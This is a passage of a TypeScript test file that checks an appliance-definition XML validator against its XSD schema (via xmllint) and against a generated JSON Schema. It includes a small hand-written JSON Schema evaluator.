      for (const l of lint.lines) assert.ok(ours.has(l), `${f}: xmllint complains at line ${l}, the validator does not:\n${lint.output}`);
    }
  });

  test('agrees with the validator on single mistakes', () => {
    for (const edit of [
      { 13: '    <memory>512MB</memory>' },
      { 4: '  <lable>Simple Web Server</lable>' },
      { 15: "    <disk name='hda1' type='data' file='sys.img'/>" },
      { 17: '  <dependency>emailserv 1.0</dependency>' },
      { 9: `  <sha256>${SHA_IMG.toUpperCase()}</sha256>` },
      { 8: '  <url>images/webserv.qcow2</url>' },
      { 3: '  <name>Web_Serv</name>' },
      { 2: "<appliance version='2.0'>" },
      { 15: "    <disk name='hda1' tpye='system' file='sys.img'/>" },
      { 10: "  <base name='debian-12' url='https://images.example/debian-12.qcow2'/>" },
      { 12: '    <cpus>+1</cpus>' },
    ] as Record<number, string>[]) {
      const xml = doc(edit);
      assert.equal(parseApplianceDefinition(xml).ok, false);
      assert.equal(xmllint(xml).ok, false, `XSD accepted ${JSON.stringify(edit)}`);
    }
  });

  test('spells the same patterns as the validator', () => {
    const xsd = readFileSync(xsdPath, 'utf8');
    const defs = definitionJsonSchema()['$defs'] as Record<string, { pattern: string }>;
    const xsdPattern = (type: string): string => {
      const m = new RegExp(`<xs:simpleType name="${type}">\\s*<xs:restriction base="xs:token">\\s*<xs:pattern value="([^"]+)"/>`).exec(xsd);
      assert.ok(m, `no pattern for ${type} in the XSD`);
      return m[1]!.replace(/\\-/g, '-');
    };
    const unanchored = (p: string): string => p.replace(/^\^/, '').replace(/\$$/, '');
    assert.equal(xsdPattern('nameType'), unanchored(defs['name']!.pattern));
    assert.equal(xsdPattern('versionType'), unanchored(defs['version']!.pattern));
    assert.equal(xsdPattern('sha256Type'), unanchored(defs['sha256']!.pattern));
    assert.equal(xsdPattern('dependencyType'), `${unanchored(defs['name']!.pattern)}(:${unanchored(defs['version']!.pattern)})?`);
    assert.equal(xsdPattern('httpUrl'), unanchored(defs['httpUrl']!.pattern).replace(/\\\//g, '/').replace(/\[\^\\s\]/g, '\\S'));
  });
});

// A small JSON Schema evaluator, enough for the keywords definitionJsonSchema uses; it keeps the
// schema honest against real parsed definitions without another dependency.
type Schema = Record<string, unknown>;
function conforms(value: unknown, schema: Schema, root: Schema): boolean {
  if (typeof schema['$ref'] === 'string') {
    const target = (schema['$ref'] as string).replace(/^#\//, '').split('/').reduce<unknown>((s, k) => (s as Schema)[k], root);
    if (!conforms(value, target as Schema, root)) return false;
  }
  if ('const' in schema && value !== schema['const']) return false;
  if (Array.isArray(schema['enum']) && !schema['enum'].includes(value)) return false;
  if (Array.isArray(schema['anyOf']) && !schema['anyOf'].some((s) => conforms(value, s as Schema, root))) return false;
  if (Array.isArray(schema['oneOf']) && schema['oneOf'].filter((s) => conforms(value, s as Schema, root)).length !== 1) return false;
  switch (schema['type']) {
    case 'null':
      if (value !== null) return false;
      break;
    case 'string':
      if (typeof value !== 'string') return false;
      if (typeof schema['pattern'] === 'string' && !new RegExp(schema['pattern'], 'u').test(value)) return false;
      if (typeof schema['minLength'] === 'number' && value.length < schema['minLength']) return false;
      break;
    case 'integer':
      if (!Number.isInteger(value)) return false;
      if (typeof schema['minimum'] === 'number' && (value as number) < schema['minimum']) return false;
      break;
    case 'array':
      if (!Array.isArray(value)) return false;
      if (schema['items'] && !value.every((v) => conforms(v, schema['items'] as Schema, root))) return false;
      if (schema['uniqueItems'] && new Set(value.map((v) => JSON.stringify(v))).size !== value.length) return false;
      break;
    case 'object':
      if (typeof value !== 'object' || value === null || Array.isArray(value)) return false;
      break;
  }
  if (typeof value === 'object' && value !== null && !Array.isArray(value)) {
    const obj = value as Record<string, unknown>;
    const props = (schema['properties'] ?? {}) as Record<string, Schema>;
    for (const r of (schema['required'] ?? []) as string[]) if (!(r in obj)) return false;
    for (const [k, v] of Object.entries(obj)) {
      if (props[k]) {
        if (!conforms(v, props[k], root)) return false;
      } else if (schema['additionalProperties'] === false) return false;
    }
  }
  return true;
}

describe('definitionJsonSchema', () => {
  test('is JSON, draft 2020-12, and requires every field of ApplianceDefinition', () => {
    const schema = definitionJsonSchema();
    assert.deepEqual(JSON.parse(JSON.stringify(schema)), schema);
    assert.equal(schema['$schema'], 'https://json-schema.org/draft/2020-12/schema');
    const def = ok(parseApplianceDefinition(fixture('valid', 'webserv.xml')));
    assert.deepEqual([...(schema['required'] as string[])].sort(), Object.keys(def).sort());
    assert.deepEqual(Object.keys(schema['properties'] as object).sort(), Object.keys(def).sort());
    const hw = (schema['properties'] as Record<string, Schema>)['hardware']!;
    assert.deepEqual([...(hw['required'] as string[])].sort(), Object.keys(def.hardware).sort());
    // Every $ref points somewhere.
    const refs = [...JSON.stringify(schema).matchAll(/"\$ref":"#\/\$defs\/([a-zA-Z]+)"/g)].map((m) => m[1]!);
    for (const r of refs) assert.ok((schema['$defs'] as Record<string, unknown>)[r], r);
    assert.notEqual(definitionJsonSchema(), schema, 'a fresh object each call, so callers may mutate it');
  });

  test('parsed fixtures conform to it; broken objects do not', () => {
    const schema = definitionJsonSchema();
    for (const f of xmlFiles('valid')) assert.ok(conforms(ok(parseApplianceDefinition(fixture('valid', f))), schema, schema), f);
    const def = ok(parseApplianceDefinition(fixture('valid', 'webserv.xml')));
    assert.equal(conforms({ ...def, name: 'Web_Serv' }, schema, schema), false);
    assert.equal(conforms({ ...def, extra: 1 }, schema, schema), false);
    assert.equal(conforms({ ...def, hardware: { ...def.hardware, memoryKib: 0 } }, schema, schema), false);
    assert.equal(conforms({ ...def, image: { ...def.image, sha256: 'ABC' } }, schema, schema), false);
    const bothDisk = { ...def.hardware.disks[0]!, sizeMib: 1 };
    assert.equal(conforms({ ...def, hardware: { ...def.hardware, disks: [bothDisk] } }, schema, schema), false);
  });
});
